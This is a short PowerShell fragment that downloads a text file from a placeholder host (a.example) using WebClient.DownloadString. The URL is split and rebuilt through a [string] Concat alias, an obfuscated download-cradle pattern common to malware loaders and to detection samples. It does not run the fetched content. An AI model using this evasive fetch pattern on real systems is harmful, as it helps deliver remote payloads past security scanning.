$t=[string]
$wc = New-Object System.Net.WebClient
$wc.DownloadString(($t::Concat('http://a.','example/p/x.txt')))
